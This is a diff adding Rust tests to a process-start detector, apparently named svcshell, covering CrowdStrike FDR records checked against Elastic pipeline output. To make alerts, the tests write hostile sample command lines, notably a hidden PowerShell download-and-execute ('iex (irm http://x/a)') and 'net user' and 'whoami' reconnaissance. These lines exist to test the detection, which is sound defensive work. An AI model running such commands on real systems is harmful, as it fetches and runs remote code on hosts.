@@ -3,7 +3,9 @@
 //!   ECS `ingest_*` output): the values svcshell derives from each raw process start, and the values the
 //!   independent reference (`tests/support/reference.rs`) derives, equal the ECS values Elastic's pipeline
 //!   wrote; raw and ECS verdicts agree on every event — also on positives this test makes by editing copies
-//!   (child swapped for cmd.exe, parent for services.exe); the Elastic Defend fixtures likewise;
+//!   (child swapped for cmd.exe, parent for services.exe); the Elastic Defend fixtures likewise; the
+//!   CrowdStrike FDR fixture (`crowdstrike_fdr/`: raw FDR lines next to the six fields Elastic's pipeline
+//!   wrote for them) likewise, every process start deriving exactly Elastic's values;
 //! - each shape's recognition rule, derivation and os rule on hand-written records (every verdict also
 //!   checked against the reference);
 //! - property tests whose oracle is the reference: any process event written in each raw shape, with
@@ -266,6 +268,128 @@ fn endpoint_fixtures_and_edited_copies() {
     }
 }
 
+/// The FDR fixture: raw lines and the six fields Elastic's pipeline gave each (its expected output, trimmed).
+fn fdr_fixture() -> Vec<(String, Value)> {
+    let dir = fixture_dir("crowdstrike_fdr");
+    let log = std::fs::read_to_string(dir.join("process_events.log")).unwrap();
+    let exp: Value = serde_json::from_str(
+        &std::fs::read_to_string(dir.join("process_events.expected.json")).unwrap(),
+    )
+    .unwrap();
+    let exp = exp["expected"].as_array().unwrap().clone();
+    let lines: Vec<String> = log.lines().map(str::to_string).collect();
+    assert_eq!(lines.len(), exp.len(), "one expected document per line");
+    lines.into_iter().zip(exp).collect()
+}
+
+/// Elastic's six fields of an expected document (missing = no value).
+fn ecs_fields(e: &Value) -> support::reference::Fields {
+    support::reference::Fields {
+        category: strings(&e["event"]["category"]),
+        event_type: strings(&e["event"]["type"]),
+        os: strings(&e["host"]["os"]["type"]),
+        name: strings(&e["process"]["name"]),
+        parent: strings(&e["process"]["parent"]["name"]),
+        args: strings(&e["process"]["args"]),
+    }
+}
+
+#[test]
+fn crowdstrike_fdr_fixture_equals_elastic_output() {
+    // Every line is recognised as crowdstrike_fdr and gets Elastic's verdict (the rule run on the ECS fields
+    // Elastic's pipeline wrote); every process start derives exactly Elastic's six values, in svcshell and in
+    // the independent reference.
+    let f = filter();
+    let mut starts = 0;
+    for (k, (line, exp)) in fdr_fixture().iter().enumerate() {
+        let what = format!("process_events.log line {}", k + 1);
+        let want = ecs_fields(exp);
+        let elastic = support::reference::rule(&want);
+        let e = f.explain(line.as_bytes()).unwrap();
+        assert_eq!(e.shape, Some("crowdstrike_fdr"), "{what}");
+        assert_eq!(f.matches(line.as_bytes()).unwrap(), elastic, "{what}");
+        assert_eq!(f.matches_value(line.as_bytes()), Some(elastic), "{what}");
+        assert_eq!(e.alert, elastic, "{what}");
+        let reference = support::reference::evaluate_line(line.as_bytes()).unwrap();
+        assert_eq!(reference.alert, elastic, "{what}: reference");
+        let start = want.category.iter().any(|c| c == "process")
+            && want.event_type.iter().any(|t| t == "start");
+        if !start {
+            continue;
+        }
+        starts += 1;
+        let mut got = e.values.clone();
+        for (_, v) in got.iter_mut() {
+            v.sort();
+        }
+        assert_eq!(got, want.named(), "{what}: svcshell");
+        assert_eq!(reference.fields.named(), want.named(), "{what}: reference");
+    }
+    assert_eq!(starts, 5, "process starts in the FDR fixture");
+}
+
+#[test]
+fn crowdstrike_fdr_positives_made_by_editing_copies() {
+    // The fixture holds no alert. Copies of each process start edited into services.exe starting a shell on a
+    // Windows host alert; the NVDisplay argument, another platform, a non-start event, a parent name the
+    // pipeline drops, or a platform the pipeline does not know turn them off again.
+    let f = filter();
+    let mut made = 0;
+    for (k, (line, exp)) in fdr_fixture().iter().enumerate() {
+        if !strings(&exp["event"]["type"]).contains(&"start".to_string()) {
+            continue;
+        }
+        let what = format!("process_events.log line {} (edited copy)", k + 1);
+        let mut r: Value = serde_json::from_str(line).unwrap();
+        r["event_platform"] = json!("Win");
+        r["ImageFileName"] = json!(
+            "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+        );
+        r["ParentBaseFileName"] = json!("services.exe");
+        r["CommandLine"] = json!("powershell.exe -nop -w hidden -c \"iex (irm http://x/a)\"");
+        assert!(alert(&f, &r), "{what}");
+        made += 1;
+        let mut x = r.clone();
+        x["CommandLine"] = json!("\"C:\\Program Files\\NVIDIA\\NVDisplay.Container.exe\" -s NVDisplay.ContainerLocalSystem");
+        assert!(!alert(&f, &x), "{what}: NVDisplay");
+        // Without a platform the pipeline knows there is no host.os.type (and no arguments).
+        for platform in [json!("Mac"), json!("win"), json!(null), json!(1)] {
+            let mut x = x.clone();
+            x["event_platform"] = platform.clone();
+            assert!(!alert(&f, &x), "{what}: platform {platform}");
+            let mut y = r.clone();
+            y["event_platform"] = platform.clone();
+            assert!(!alert(&f, &y), "{what}: platform {platform}");
+        }
+        for name in ["EndOfProcess", "ProcessRollup2Stats", "processrollup2"] {
+            let mut x = r.clone();
+            x["event_simpleName"] = json!(name);
+            assert!(!alert(&f, &x), "{what}: {name}");
+            assert_eq!(explain(&f, &x).0, Some("crowdstrike_fdr"), "{what}: {name}");
+        }
+        for parent in [json!("none"), json!("-"), json!(""), json!(null)] {
+            let mut x = r.clone();
+            x["ParentBaseFileName"] = parent.clone();
+            assert!(!alert(&f, &x), "{what}: parent {parent}");
+        }
+        // A drive-letter path is not split (the pipeline only splits paths starting with `\` or `/`).
+        let mut x = r.clone();
+        x["ImageFileName"] = json!("C:\\Windows\\System32\\cmd.exe");
+        assert!(!alert(&f, &x), "{what}: drive-letter image");
+        x["ImageFileName"] = json!("cmd.exe");
+        assert!(alert(&f, &x), "{what}: bare image name");
+        // A cloning runc (executable `/`) is named after its first argument.
+        let mut x = r.clone();
+        x["ImageFileName"] = json!("/");
+        x["CommandLine"] = json!("\"C:/Windows/System32/cm\"d.exe /c whoami");
+        assert!(
+            alert(&f, &x),
+            "{what}: executable / named from its argument"
+        );
+    }
+    assert_eq!(made, 5);
+}
+
 // ------------------------------------------------------------------------- hand-written records
 
 const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
@@ -288,8 +412,107 @@ fn unknown_source_names_are_a_config_error_naming_sources() {
         "ecs",
         "ECS, m365",
         "winlogbeat_sysmon,winlogbeat_security,nxlog,evtx,winevtlog,sentinelone,m365,ecs",
+        "crowdstrike_fdr",
+        " CrowdStrike_FDR ,ecs",
     ] {
         assert!(Filter::from_properties(&[("sources", ok)]).is_ok(), "{ok}");
+    }
+}
+
+fn fdr_start(image: &str, parent: &str, cmd: &str) -> Value {
+    json!({"event_simpleName": "ProcessRollup2", "event_platform": "Win", "name": "ProcessRollup2V19",
+        "aid": "40b756af7c1d76ef66cb380d94090915", "ImageFileName": image, "ParentBaseFileName": parent,
+        "CommandLine": cmd})
+}
+
+#[test]
+fn crowdstrike_fdr_recognition_derivations_and_detection_order() {
+    let f = filter();
+    let shell = "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe";
+    let r = fdr_start(shell, "services.exe", "cmd.exe /c \"net user\" - none \"\"");
+    assert!(alert(&f, &r));
+    let (shape, values) = explain(&f, &r);
+    assert_eq!(shape, Some("crowdstrike_fdr"));
+    assert_eq!(field(&values, "process.name"), ["cmd.exe"]);
+    assert_eq!(field(&values, "host.os.type"), ["windows"]);
+    // `remove_nulls` drops the `-`, `none` and empty arguments.
+    assert_eq!(
+        field(&values, "process.args"),
+        ["cmd.exe", "/c", "net user"]
+    );
+    // Every process start of the categorize table counts; other events and other spellings do not.
+    for name in [
+        "SyntheticProcessRollup2",
+        "ServiceStarted",
+        "WmiCreateProcess",
+        "ProcessRollup",
+    ] {
+        let mut x = r.clone();
+        x["event_simpleName"] = json!(name);
+        assert!(alert(&f, &x), "{name}");
+    }
+    for name in [
+        "ProcessRollup2Stats",
+        "EndOfProcess",
+        "PROCESSROLLUP2",
+        "ProcessRollup2V19",
+    ] {
+        let mut x = r.clone();
+        x["event_simpleName"] = json!(name);
+        assert!(!alert(&f, &x), "{name}");
+        assert_eq!(
+            explain(&f, &x),
+            (Some("crowdstrike_fdr"), explain(&f, &json!({})).1)
+        );
+    }
+    // The shape comes last: the keys of every other shape win, and ECS fields win over everything.
+    let mut x = wlb_sysmon("notepad.exe", "explorer.exe", "notepad.exe");
+    x.as_object_mut()
+        .unwrap()
+        .extend(r.as_object().unwrap().clone());
+    assert_eq!(explain(&f, &x).0, Some("winlogbeat_sysmon"));
+    assert!(!alert(&f, &x));
+    let mut x = r.clone();
+    x["meta"] = json!({"event": {"name": "TCPV4"}});
+    assert_eq!(explain(&f, &x).0, Some("sentinelone"));
+    assert!(!alert(&f, &x));
+    let mut x = r.clone();
+    x["process"] = json!({"name": "notepad.exe"});
+    assert_eq!(explain(&f, &x).0, Some("ecs"));
+    assert!(!alert(&f, &x));
+    // `sources` decides: without crowdstrike_fdr the record has no shape; with only it, a Sysmon record
+    // has none.
+    let only_ecs = Filter::from_properties(&[("max_alerts", "0"), ("sources", "ecs")]).unwrap();
+    assert!(!only_ecs.matches(&bytes(&r)).unwrap());
+    assert_eq!(explain(&only_ecs, &r).0, None);
+    let only_fdr =
+        Filter::from_properties(&[("max_alerts", "0"), ("sources", "crowdstrike_fdr")]).unwrap();
+    assert!(only_fdr.matches(&bytes(&r)).unwrap());
+    let sysmon = wlb_sysmon("cmd.exe", "services.exe", "cmd.exe");
+    assert!(!only_fdr.matches(&bytes(&sysmon)).unwrap());
+    assert_eq!(explain(&only_fdr, &sysmon).0, None);
+    // No parent name without ParentBaseFileName: the pipeline joins nothing on ParentProcessId.
+    let mut x = r.clone();
+    x.as_object_mut().unwrap().remove("ParentBaseFileName");
+    x["ParentProcessId"] = json!("3000051703140");
+    assert!(!alert(&f, &x));
+    assert!(field(&explain(&f, &x).1, "process.parent.name").is_empty());
+    // Names: a device path or a POSIX path is split, a drive-letter path is kept whole.
+    for (image, name) in [
+        ("\\??\\C:\\Windows\\system32\\conhost.exe", "conhost.exe"),
+        ("/usr/bin/pwsh", "pwsh"),
+        ("C:\\Windows\\cmd.exe", "C:\\Windows\\cmd.exe"),
+        ("cmd.exe", "cmd.exe"),
+    ] {
+        let x = fdr_start(image, "services.exe", "x");
+        assert_eq!(field(&explain(&f, &x).1, "process.name"), [name], "{image}");
+    }
+    for image in ["\\Windows\\", "/", "-", "none", ""] {
+        let x = fdr_start(image, "services.exe", "");
+        assert!(
+            field(&explain(&f, &x).1, "process.name").is_empty(),
+            "{image}"
+        );
     }
 }
 
